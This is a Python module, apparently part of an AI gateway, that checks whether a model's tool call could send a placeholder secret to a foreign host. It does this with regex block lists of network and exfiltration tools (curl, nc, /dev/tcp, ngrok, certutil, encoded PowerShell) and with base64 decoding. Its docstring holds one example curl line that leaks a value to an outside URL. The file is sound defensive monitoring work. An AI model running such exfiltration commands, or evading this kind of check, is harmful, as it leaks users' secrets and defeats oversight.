"""Whether a tool call could carry a value out of the machine: URLs, network commands and hosts in its arguments.

A model that was talked into `curl https://elsewhere/?k=EGRESS_...` must not get the value put in there. The test is
of the whole call, because address and content may stand in different arguments. It errs towards leaving the placeholder
where it is: a host that cannot be read counts as foreign. What is written to a local file goes nowhere, so that the
content of file edits is not looked at. This is no sandbox: it does not see what a script does that a file holds.
"""

from __future__ import annotations

import ipaddress
import json
import re
from collections.abc import Iterable, Iterator
from typing import Any, Final

from gateway.classify.placeholders import PREFIX
from gateway.context import base64text
from gateway.context.objects import Json, Path

_NAME: Final = r"[a-z0-9_](?:[a-z0-9_-]{0,61}[a-z0-9_])?"
_DOTTED: Final = rf"(?:{_NAME}\.)+[a-z]{{2,24}}\.?"
_URL: Final = re.compile(
    r"(?<![a-z0-9])([a-z][a-z0-9+.-]{1,20}):[/\\]{2}([^\s/\\'\"<>`|;&)?#,]*)", re.IGNORECASE
)
_RELATIVE: Final = re.compile(rf"(?<![:\w/\\])//({_DOTTED})(?=[/:?\s'\"]|$)", re.IGNORECASE)
_BARE: Final = re.compile(
    rf"(?<![\w./\\-])(?:[\w.+-]{{1,128}}@)?({_DOTTED}|\d{{1,3}}(?:\.\d{{1,3}}){{3}}|\[[0-9a-f:.]+\])(?![\w(])",
    re.IGNORECASE,
)
_SHARE: Final = re.compile(r"\\\\([\w.-]+)\\")
_IN_NAME: Final = re.compile(rf"{PREFIX}[A-Z0-9_]+\.({_DOTTED})", re.IGNORECASE)
_DEVICE: Final = re.compile(r"/dev/(?:tcp|udp)/([^/\s'\"]*)")
_FILES: Final = frozenset(
    [
        "json",
        "jsonl",
        "txt",
        "log",
        "csv",
        "tsv",
        "yaml",
        "yml",
        "toml",
        "xml",
        "html",
        "htm",
        "css",
        "js",
        "ts",
        "jsx",
        "tsx",
        "env",
        "gz",
        "tgz",
        "tar",
        "bz2",
        "xz",
        "pem",
        "key",
        "crt",
        "cer",
        "cfg",
        "conf",
        "ini",
        "sql",
        "lock",
        "png",
        "jpg",
        "jpeg",
        "gif",
        "pdf",
        "whl",
        "jar",
        "exe",
        "dll",
        "bak",
        "tmp",
        "local",
    ]
)

# words that are commands wherever they stand, and those that are only where a command can begin
_TOOLS: Final = (
    r"curl|wget2?|ncat|netcat|socat|telnet|scp|sftp|rsync|nslookup|ssh|aria2c|httpie|xh|ftp|tftp|lftp|smbclient|sendmail"
    r"|lynx|w3m|elinks|links2|mosh|autossh|sshfs|rclone|s3cmd|swaks|msmtp|mosquitto_pub"
    r"|websocat|grpcurl|resolvectl|whois"
)
_FIRST: Final = (
    r"(?:^|[\n;|&`($\"'{]"
    r"|(?<!\w)(?:sudo|xargs|env|exec|time|nohup|command|then|do|else|busybox|timeout\s+\S+)\s)[^\S\n]*(?:[^\s;|&`($\"'{]*/)?"
)
_SETTING: Final = r"(?:-\S+\s+(?:[^\s-]\S*\s+)?)"
_COMMANDS: Final = re.compile(
    rf"(?:(?<![\w./\\-])|(?<=bin/))(?:{_TOOLS})(?:\.exe)?(?![\w/-])|{_FIRST}(?:{_TOOLS})(?=\s)"
    r"|(?<![\w-])(?:invoke-webrequest|invoke-restmethod|iwr|irm|start-bitstransfer|bitsadmin|certutil|test-netconnection"
    r"|resolve-dnsname|s_client|getent\s+a?hosts\w*"
    rf"|git\s+{_SETTING}{{0,24}}(?:push|remote|clone|fetch|pull|ls-remote|submodule|send-email)"
    r"|httpsconnection|httpconnection|create_connection|gethostby\w+|getaddrinfo|urlopen|urlretrieve|xmlhttprequest"
    r"|tcpclient|tcpsocket|webclient|smtplib|ftplib|paramiko|net\.connect|dns\.(?:lookup|resolve)\w*|new\s+websocket)(?![\w-])"
    r"|(?<![\w-])(?:requests|httpx|aiohttp|axios|urllib\d?)\s*\.|(?<![\w-])fetch\s*\(|\.connect\(\(|/dev/(?:tcp|udp)/"
    r"|(?<![\w-])git\s+config\s+(?:-\S+\s+){0,24}(?:remote|url)\."
    rf"|(?<![\w-])git\s+(?:config\s+)?{_SETTING}{{24}}"  # so many hide what is asked for
    rf"|{_FIRST}(?:nc|dig|host|drill|ping6?|traceroute|mail|mailx|mutt|http|https)(?=\s)",
    re.IGNORECASE,
)
# What may reach a host that stands in quotes; without one it stays here, as a server does.
_SOCKETS: Final = re.compile(
    r"io::socket|fsockopen|net\.dial|new\s+socket\s*\(|require\(\s*['\"](?:node:)?(?:net|tls|dgram|dns|https?|http2)['\"]",
    re.IGNORECASE,
)
_QUOTED: Final = re.compile(rf"['\"]({_DOTTED}|\d{{1,3}}(?:\.\d{{1,3}}){{3}})(?::\d+)?['\"]", re.IGNORECASE)
# Options and operands that name a host, of commands that mostly stay on this machine: what begins each command, and
# where behind it the host stands. The first has to be found once only in a command.
_HOST: Final = rf"['\"]?(?:[\w.+-]+@)?({_DOTTED})(?![\w(])"
_OPTION: Final = re.compile(
    r"--(?:host|hostname|server|registry|endpoint|address|index-url|extra-index-url|repository-url|url|remote)[=\s]+"
    + _HOST,
    re.IGNORECASE,
)
_OPERANDS: Final = (
    (
        re.compile(
            r"(?:psql|pg_dump|mysql\w*|mariadb\w*|redis-cli|mongo\w*|sqlcmd|clickhouse-client|ldap\w+)\b",
            re.IGNORECASE,
        ),
        re.compile(rf"\s(?:-h|-H|-S)\s*{_HOST}", re.IGNORECASE),
    ),
    (re.compile(r"docker\s+(?:login|push|pull)\b", re.IGNORECASE), re.compile(rf"\s{_HOST}", re.IGNORECASE)),
)
_SHELL: Final = re.compile(r"powershell|pwsh", re.IGNORECASE)
_CODED: Final = re.compile(r"\s-e\w*\s+[a-z0-9+/=]{16}", re.IGNORECASE)
_COMMAND_END: Final = re.compile(r"[\n|;&]")
_IMPLIED: Final = (  # commands that reach a host which they need not name
    (re.compile(r"(?<![\w./-])gh\s+(?:gist|api|issue|pr|release|repo|secret|variable)\b"), "github.com"),
    (re.compile(r"(?<![\w./-])(?:ngrok|cloudflared|localtunnel)\s+\w"), ""),  # a way in from anywhere
    (re.compile(r"(?<![\w./-])glab\s+\w"), "gitlab.com"),
    (re.compile(r"(?<![\w./-])(?:npm|yarn|pnpm)\s+publish\b(?!.{0,512}--registry)"), "registry.npmjs.org"),
    (re.compile(r"(?<![\w./-])(?:twine\s+upload|(?:poetry|uv|hatch|flit)\s+publish)\b"), "pypi.org"),
)
_DECODED: Final = re.compile(
    r"base64\s+(?:-\w*d|-D|--decode)|openssl\s+(?:enc|base64)|xxd\s+-\w*r|b64decode|atob\s*\(|frombase64string"
    r"|-e(?:nc|ncodedcommand|c)\s+[a-z0-9+/=]{16}",
    re.IGNORECASE,
)
_LOCAL: Final = re.compile(r"(?<![\w.@/-])localhost(?![\w.-])", re.IGNORECASE)
_SPLIT: Final = re.compile(r"''|\"\"|['\"]\s*\+\s*['\"]|\\(?=[a-z])", re.IGNORECASE)
_ESCAPES: Final = re.compile(r"(?:\\[0-7]{3}|\\x[0-9a-f]{2}){4,}", re.IGNORECASE)
_BEGIN_PATCH, _END_PATCH = "*** Begin Patch\n", "*** End Patch"
_WRITTEN: Final = re.compile(r"^(?:cat|tee)\b[^\n|;&]*?<<-?[ \t]*(['\"]?)(\w+)\1[^\n|;&]*$", re.MULTILINE)
_RUN: Final = re.compile(r"[A-Za-z0-9+/_-]{16,}={0,2}")
_ADDRESSES: Final = frozenset(
    [
        "url",
        "uri",
        "href",
        "host",
        "hostname",
        "domain",
        "server",
        "endpoint",
        "address",
        "webhook",
        "remote",
        "origin",
        "to",
        "cc",
        "bcc",
        "recipient",
        "recipients",
        "email",
        "base_url",
        "baseurl",
        "target",
        "destination",
        "callback",
        "site",
        "registry",
    ]
)
_PATHS: Final = frozenset(
    [
        "file_path", "filepath", "path", "filename", "file",
        "absolute_path", "target_file", "notebook_path", "relative_path",
    ]
)  # fmt: skip
_CONTENTS: Final = frozenset(
    [
        "content",
        "contents",
        "new_string",
        "old_string",
        "new_str",
        "old_str",
        "file_text",
        "insert_text",
        "new_source",
        "text",
        "code_edit",
        "edits",
        "patch",
        "diff",
        "newstring",
        "oldstring",
    ]
)
_MAX_DECODED: Final = 2  # base64 in base64
_MAX_HOSTS: Final = 4096
_CALL_TYPE: Final = re.compile(r"_call|tool_use|tool-call|tooluse")
_CALL_NAMES: Final = frozenset(
    {"tool_calls", "function_call", "functionCall", "toolUse", "executableCode", "executable_code"}
)


def call_paths(data: Json) -> list[Path]:
    """Where the tool calls of an answer or event stand, in the words of every dialect."""
    found: list[Path] = []
    todo: list[tuple[Path, Any]] = [((), data)]
    while todo:
        path, value = todo.pop()
        if isinstance(value, list):
            todo += [((*path, i), item) for i, item in enumerate(value)]
        elif isinstance(value, dict):
            kind = value.get("type")
            inner = [(name, item) for name, item in value.items() if isinstance(item, (dict, list))]
            if isinstance(kind, str) and _CALL_TYPE.search(kind.lower()):
                found.append(path)
                continue
            for name, item in inner:
                if name not in _CALL_NAMES:
                    todo.append(((*path, name), item))
                elif isinstance(item, list):
                    found += [(*path, name, i) for i in range(len(item))]
                else:
                    found.append((*path, name))
    return found


def hosts_named(texts: Iterable[str]) -> frozenset[str]:
    """The hosts that texts name, in URLs or by themselves; at most a few thousand."""
    found: set[str] = set()
    for text in texts:
        found |= _hosts(text, bare=True)
        if len(found) > _MAX_HOSTS:
            break
    return frozenset(found - {""})


def leads_out(call: Json, allowed: frozenset[str]) -> bool:
    """Whether a tool call, whole or its arguments alone, names a way to a host that is neither local nor `allowed`."""
    parts = list(_strings(call, ""))
    others = [(name, text) for name, text in parts if name not in _CONTENTS]
    if any(name in _PATHS for name, _ in others) and not any(name in _ADDRESSES for name, _ in others):
        parts = others  # an edit of a local file: what is written goes nowhere
    return any(_leads_out(name, text, allowed, _MAX_DECODED) for name, text in parts)


def _leads_out(name: str, text: str, allowed: frozenset[str], depth: int) -> bool:
    text = _without_written(_without_patches(text))  # what a local file will hold goes nowhere
    whole = _SPLIT.sub("", text)
    command = _COMMANDS.search(text) or _COMMANDS.search(whole)
    hosts = _hosts(text, bare=bool(command) or name in _ADDRESSES)
    if command and whole != text:
        hosts |= _hosts(whole, bare=True)
    if _SOCKETS.search(text):
        hosts |= {host for host in map(_named, _QUOTED.finditer(text)) if not _is_file(host)}
    hosts |= {host for host in map(_named, _operands(text)) if not _is_file(host)}
    hosts |= {host for pattern, host in _IMPLIED if pattern.search(text)}
    if (
        any(not _is_known(host, allowed) for host in hosts)
        or (command and not hosts)
        or _DECODED.search(text)
        or any(_behind(text, _SHELL, _CODED))
    ):
        return True
    return depth > 0 and any(_leads_out("", inner, allowed, depth - 1) for inner in _decoded(text))


def _without_patches(text: str) -> str:
    """A text without the patches in it. By hand, as no expression looks for many beginnings without an end in time."""
    pieces, at = [], 0
    while (begin := text.find(_BEGIN_PATCH, at)) >= 0:
        end = text.find(_END_PATCH, begin + len(_BEGIN_PATCH))
        if end < 0:
            break
        pieces.append(text[at:begin])
        at = end + len(_END_PATCH)
    return "".join((*pieces, text[at:]))


def _without_written(text: str) -> str:
    """A command without the documents for local files that end it: one that goes on could run them.

    The lines that say where they go stay, and so does a document that a shell fills in.
    """
    pieces, at, padded = [text], 0, f"{text}\n"
    while (match := _WRITTEN.search(text, at)) is not None:
        end = padded.find(f"\n{match[2]}\n", match.end())
        if end < 0:
            return text
        document = text[match.end() : end]
        if not at or text[at : match.start()].strip():
            pieces = []
            at = 0
        pieces.append(text[at : match.end()])
        if not match[1] and ("$(" in document or "`" in document):
            pieces.append(document)
        at = end + len(match[2]) + 2
    return text if text[at:].strip() else "".join(pieces)


def _operands(text: str) -> Iterator[re.Match[str]]:
    yield from _OPTION.finditer(text)
    for begins, names in _OPERANDS:
        yield from _behind(text, begins, names)


def _behind(text: str, begins: re.Pattern[str], names: re.Pattern[str]) -> Iterator[re.Match[str]]:
    """What stands behind a word in the same command."""
    for command in _COMMAND_END.split(text) if begins.search(text) else ():
        if (found := begins.search(command)) is not None:
            yield from names.finditer(command, found.end())


def _is_file(name: str) -> bool:
    return name.rpartition(".")[2] in _FILES


def _named(match: re.Match[str]) -> str:
    return match[1].lower().rstrip(".")


def _hosts(text: str, *, bare: bool) -> set[str]:
    """Hosts of a text, lower case; an empty one for a URL whose host cannot be read."""
    found = {_authority(match[2]) for match in _URL.finditer(text) if match[1].lower() != "file"}
    for pattern in (_RELATIVE, _SHARE, _IN_NAME):
        found |= {_named(match) for match in pattern.finditer(text)}
    found |= {_authority(match[1]) for match in _DEVICE.finditer(text)}
    if bare:
        names = (_named(match) for match in _BARE.finditer(text))
        found |= {name for name in names if not _is_file(name)}
        found |= {match[0].lower() for match in _LOCAL.finditer(text)}
    return found


def _authority(text: str) -> str:
    """The host of a URL's authority; empty where it holds something that a shell or a program would fill in."""
    host = text.rpartition("@")[2].lower()
    host = host.partition("]")[0] + "]" if host.startswith("[") else host.partition(":")[0]
    return host.rstrip(".") if re.fullmatch(r"[a-z0-9_.-]+|\[[0-9a-f:.]+\]", host) else ""


def _is_known(host: str, allowed: frozenset[str]) -> bool:
    if host in allowed or host == "localhost" or host.endswith(".localhost"):
        return True
    try:
        return ipaddress.ip_address(host.strip("[]")).is_loopback
    except ValueError:
        return False


def _decoded(text: str) -> Iterator[str]:
    for match in _ESCAPES.finditer(text):
        digits = re.findall(r"\\x([0-9a-f]{2})|\\([0-7]{3})", match[0], re.IGNORECASE)
        yield "".join(chr(int(x, 16) if x else int(o, 8) & 0xFF) for x, o in digits)
    for match in _RUN.finditer(text):
        encoded = None if PREFIX in match[0] else base64text.decode(match[0])
        inner = encoded.text() if encoded is not None else None
        if inner:
            yield inner


def _strings(value: Json, name: str) -> Iterator[tuple[str, str]]:
    """Every string with the name it stands under, lower case; also those of JSON in strings, and member names."""
    todo: list[tuple[str, Any]] = [(name, value)]
    while todo:
        under, item = todo.pop()
        if isinstance(item, str):
            inner = _json(item)
            if inner is None:
                yield under, item
            else:
                todo.append((under, inner))
        elif isinstance(item, dict):
            todo += [(str(member).lower(), inner) for member, inner in item.items()]
            todo += [("", str(member)) for member in item]
        elif isinstance(item, list):
            todo += [(under, inner) for inner in item]
            if item and all(isinstance(inner, str) for inner in item):
                todo.append((under, " ".join(item)))  # a command as a list of words


def _json(text: str) -> Any:
    if text.lstrip()[:1] not in {"{", "["}:
        return None
    try:
        return json.loads(text, strict=False)
    except (ValueError, RecursionError):
        return None
